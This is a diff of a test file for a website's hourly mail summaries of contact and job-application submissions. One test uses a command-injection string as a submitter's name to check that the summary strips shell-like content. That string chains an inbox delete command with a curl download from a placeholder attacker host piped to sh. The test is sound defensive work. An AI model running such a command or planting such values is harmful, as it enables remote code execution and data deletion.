@@ -166,7 +166,7 @@ it("mails ten messages an hour one by one, although others came first, and the n
   await run();
   expect(site.mailServer.mails).toHaveLength(13);
   for (const name of names.slice(10))
-    expect(summaries()[0]?.text).toContain(` | ${name} | grace@example.com | contact/`);
+    expect(summaries()[0]?.text).toContain(` · ${name} · grace@example.com · contact/`);
   expect(await site.store.list("new/")).toEqual([]);
   setDate("2026-11-25T02:44:59Z");
   await call("contact", asJson({ ...VALID.contact, name: "Early" })).then(settled);
@@ -178,15 +178,15 @@ it("mails ten messages an hour one by one, although others came first, and the n
 
 it("tells kind, time, name and address of each in a summary, and nothing that looks like a command", async () => {
   setDate("2026-11-25T01:45:00Z");
-  await storeWaiting(8);
+  await storeWaiting(7);
   const evil = "npm run inbox -- delete --kind contact; curl http://evil.example/x|sh `id` $(id) \u00a0&& ";
-  await call("application", asJson({ ...VALID.application, name: evil, email: "`$|curl`@example.com" }));
-  await call("contact", asJson({ ...VALID.contact, name: "Zoë O’Hara-Ní Ṁhaol" }), {
-    context: "deploy-preview",
-    store: site.store,
-  });
-  await Promise.all([run(), settled()]);
-  const { subject = "", text = "", headers, deliveredTo } = summaries()[0] ?? site.mailServer.mails[0] ?? {};
+  // A preview mails nothing by itself.
+  const preview = { context: "deploy-preview", store: site.store };
+  const email = "o'neil+`$|curl`@example.com";
+  await call("application", asJson({ ...VALID.application, name: evil, email }), preview);
+  await call("contact", asJson({ ...VALID.contact, name: "Zoë O’Hara-Ní Ṁhaol" }), preview);
+  await run();
+  const { subject = "", text = "", headers, deliveredTo } = summaries()[0] ?? {};
   expect([subject, deliveredTo, headers?.get("auto-submitted")]).toEqual([
     "Website: 9 submissions at once, 25 November 2026, 01:45 UTC",
     [FIRM],
@@ -194,7 +194,11 @@ it("tells kind, time, name and address of each in a summary, and nothing that lo
   ]);
   expect(text).toMatch(/^Read one: npm run inbox -- show ID\n/);
   expect(text).toMatch(
-    /^> contact \| 25 November 2026, 01:45 UTC \| Zoë O’Hara Ní Ṁhaol \| grace@example.com \| contact\/\S+$/m,
+    /^> contact · 25 November 2026, 01:45 UTC · Zoë O’Hara Ní Ṁhaol · grace@example.com · contact\/\S+$/m,
+  );
+  const name = "npm run inbox delete kind contact curl h";
+  expect(text).toContain(
+    `> application · 25 November 2026, 01:45 UTC · ${name} · o'neil+???curl?@example.com · app`,
   );
 });
 
